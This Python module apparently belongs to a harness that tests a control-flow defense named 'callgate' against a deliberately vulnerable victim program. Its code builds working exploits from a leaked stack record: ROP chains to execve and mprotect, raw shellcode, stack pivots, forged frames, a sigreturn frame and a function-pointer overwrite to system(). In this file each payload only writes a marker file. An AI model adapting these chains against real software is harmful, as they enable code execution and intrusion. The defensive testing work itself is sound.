"""The attacks: what each one sends, given what the victim's leak told.

A chain is a list of 64-bit words that the victim's `ret` instructions take one after another from where RSP points. Its data (strings,
argument vectors, code) lies right behind it.
"""

import struct

from image import Missing, SYSCALL_RET

RECORD = 64  # sizeof desk.record in victim.c; behind it: FILE *out, char *end, the checksum function
EXECVE, RT_SIGRETURN = 59, 15


def pack(words):
    return b"".join(struct.pack("<Q", word & (1 << 64) - 1) for word in words)


class Data:
    """Bytes to lie at a known address."""

    def __init__(self, address):
        self.address, self.bytes = address, b""

    def add(self, more):
        at = self.address + len(self.bytes)
        self.bytes += more + bytes(-len(more) % 8)
        return at

    def vector(self, *strings):
        """A NULL-terminated vector of strings: (address of the vector, addresses of the strings)."""
        addresses = [self.add(string.encode() + b"\0") for string in strings]
        return self.add(pack(addresses + [0])), addresses


def lay_out(at, chain):
    """The bytes of a chain and its data, to lie at `at`. `chain` makes the words, given where the data goes."""
    words = chain(Data(0))  # once to learn how many words there are
    data = Data(at + 8 * len(words))
    return pack(chain(data)) + data.bytes


class Target:
    """One running victim, and what the leak told about it."""

    def __init__(self, victim, libc, leak, stored, mark, text):
        self.victim, self.tools = victim, libc or victim
        out, end, checksum = struct.unpack_from("<3Q", leak, RECORD)
        self.victim.base = 0
        self.victim.base = checksum - victim.symbol("adler32")
        self.tools.base = self.victim.base if libc is None else 0
        if libc is not None:
            libc.base = out - libc.symbol("_IO_2_1_stdout_")
        self.record = end - len(stored)  # on the stack
        self.shelf = victim.symbol("shelf") + len(stored)  # what is stored next comes to lie here, in .bss
        self.into_main = next(victim.calls_to(victim.symbol("converse")))
        words = struct.unpack_from(f"<{len(leak) // 8}Q", leak)
        if self.into_main not in words:
            raise Missing("the leak does not reach the return address")
        self.slot = 8 * words.index(self.into_main)  # from the record to the return address
        self.saved = leak[:self.slot]
        self.mark, self.text = mark, text

    def overflow(self, chain):
        """The record that puts a chain where converse() returns."""
        return self.saved + lay_out(self.record + self.slot, chain)

    def on_shelf(self, chain):
        """The well-behaved records that put a chain on the shelf, and its address."""
        content = lay_out(self.shelf, chain)
        return [content[n:n + RECORD] for n in range(0, len(content), RECORD)], self.shelf

    def command(self, data):
        """The arguments of an execve that leaves the mark."""
        argv, (path, *_) = data.vector("/bin/sh", "-c", f"echo {self.text} > {self.mark}")
        return {"rdi": path, "rsi": argv, "rdx": 0}

    def shellcode(self):
        path, text = self.mark.encode() + b"\0", self.text.encode() + b"\n"
        code = b"".join([
            b"\x48\x8d\x3d\0\0\0\0",                     # lea rdi, [rip + path]
            b"\xbe", struct.pack("<I", 0o1101),             # mov esi, O_WRONLY | O_CREAT | O_TRUNC
            b"\xba", struct.pack("<I", 0o644),              # mov edx, 0644
            b"\xb8\x02\0\0\0\x0f\x05",                      # mov eax, open; syscall
            b"\x89\xc7",                                    # mov edi, eax
            b"\x48\x8d\x35\0\0\0\0",                     # lea rsi, [rip + text]
            b"\xba", struct.pack("<I", len(text)),          # mov edx, length
            b"\xb8\x01\0\0\0\x0f\x05",                      # mov eax, write; syscall
            b"\x31\xff",                                    # xor edi, edi
            b"\xb8\xe7\0\0\0\x0f\x05",                      # mov eax, exit_group; syscall
            b"\xf4",                                        # hlt
        ])
        # Both displacements are counted from the instruction behind; the path lies behind the code, the text behind the path.
        fixed = bytearray(code)
        struct.pack_into("<i", fixed, 3, len(code) - 7)
        second = code.index(b"\x48\x8d\x35")
        struct.pack_into("<i", fixed, second + 3, len(code) + len(path) - second - 7)
        return bytes(fixed) + path + text


def execve(target):
    """Pop-ret chain to libc's execve."""
    tools = target.tools
    return [target.overflow(lambda data: tools.load(**target.command(data)) + [tools.symbol("execve"), 0])]


def mprotect(target):
    """Pop-ret chain to libc's mprotect, which makes the stack executable; then code on the stack."""
    def chain(data):
        code = data.add(target.shellcode())
        first, last = code & ~0xFFF, data.address + len(data.bytes) | 0xFFF
        return target.tools.load(rdi=first, rsi=last + 1 - first, rdx=7) + [target.tools.symbol("mprotect"), code]
    return [target.overflow(chain)]


def borrowed_syscall(target):
    """Pop-ret chain to the syscall instruction of another system call's wrapper, with execve's number."""
    tools = target.tools
    return [target.overflow(lambda data: tools.load(rax=EXECVE, **target.command(data)) + [tools.borrowed_syscall(), 0])]


def past_prologue(target):
    """Pop-ret chain to the syscall instruction inside execve itself."""
    tools = target.tools
    entry = tools.symbol("execve")
    inside = entry + tools.code(entry, 32).index(SYSCALL_RET[:2])
    return [target.overflow(lambda data: tools.load(rax=EXECVE, **target.command(data)) + [inside, 0])]


def pivot(target):
    """The stack pointer moved to .bss, where the chain was stored as ordinary records."""
    tools = target.tools
    records, shelf = target.on_shelf(lambda data: tools.load(**target.command(data)) + [tools.symbol("execve"), 0])
    return records + [target.overflow(lambda data: tools.load(rsp=shelf))]


def planted_coroutine(target):
    """The pivot, with one word more: above execve's frame lies the function where makecontext's coroutines start."""
    tools = target.tools
    start = tools.find_bytes(bytes.fromhex("4889dc488b3c244885ff"))  # mov %rbx, %rsp; mov (%rsp), %rdi; test %rdi, %rdi

    def chain(data):
        # rbx points at the next context, a little above, and aligned.
        return tools.load(rbx=data.address + 7 & ~7, **target.command(data)) + [tools.symbol("execve"), start, 0, 0]
    records, shelf = target.on_shelf(chain)
    return records + [target.overflow(lambda data: tools.load(rsp=shelf))]


def forged_end(target):
    """The execve chain, with return addresses that do follow calls above it, down to a planted _start and a zero."""
    tools = target.tools
    after_call = next(tools.calls_to(tools.symbol("execve")))
    frames = [after_call] + [target.into_main] * 32 + [target.victim.start_return(), 0, 0]
    return [target.overflow(lambda data: tools.load(**target.command(data)) + [tools.symbol("execve")] + frames)]


def sigreturn(target):
    """A forged signal frame: rt_sigreturn loads every register at once, and the next instruction is a syscall."""
    tools = target.tools
    syscall = tools.find_bytes(SYSCALL_RET)

    def chain(data):
        arguments = target.command(data)
        context = [0] * 5                                                                # flags, link, stack
        context += [0] * 8                                                               # r8 … r15
        context += [arguments["rdi"], arguments["rsi"], 0, 0, arguments["rdx"], EXECVE, 0]  # rdi rsi rbp rbx rdx rax rcx
        context += [data.address, syscall, 0x202, 0x002B000000000033]                    # rsp rip eflags cs/ss
        context += [0] * 4 + [0] + [0] * 8 + [0]                                         # err … cr2, fpstate, reserved, mask
        return tools.load(rax=RT_SIGRETURN) + [syscall] + context
    return [target.overflow(chain)]


def genuine_tail(target):
    """The registers are set by a chain in .bss that also restores the stack; execve is then entered by a ret, with the program's
    own, genuine frames above it."""
    tools = target.tools
    slot = target.record + target.slot
    records, shelf = target.on_shelf(
        lambda data: tools.store(slot, target.into_main) + tools.load(**target.command(data)) + tools.load(rsp=slot - 8))
    # What follows the shelf's address is main's own frame, untouched.
    return records + [target.saved[:-8] + pack([tools.symbol("execve")] + tools.load(rsp=shelf))]


def function_pointer(target):
    """No chain at all: the pointer to the checksum function is made to point to system()."""
    command = f"echo {target.text} >{target.mark}".encode() + b"\0"
    if len(command) > RECORD:
        raise Missing(f"the mark's path is too long for a record of {RECORD} bytes")
    fields = target.saved[RECORD:RECORD + 16]
    return [command.ljust(RECORD, b"\0") + fields + pack([target.tools.symbol("system")])]


# In the order of the table. The second word says why callgate does not stop it, where it does not.
ATTACKS = {
    "execve": (execve, ""),
    "mprotect": (mprotect, ""),
    "borrowed-syscall": (borrowed_syscall, ""),
    "past-prologue": (past_prologue, ""),
    "pivot": (pivot, ""),
    "planted-coroutine": (planted_coroutine, ""),
    "forged-end": (forged_end, ""),
    "sigreturn": (sigreturn, ""),
    "genuine-tail": (genuine_tail, ""),
    "function-pointer": (function_pointer, ""),
}
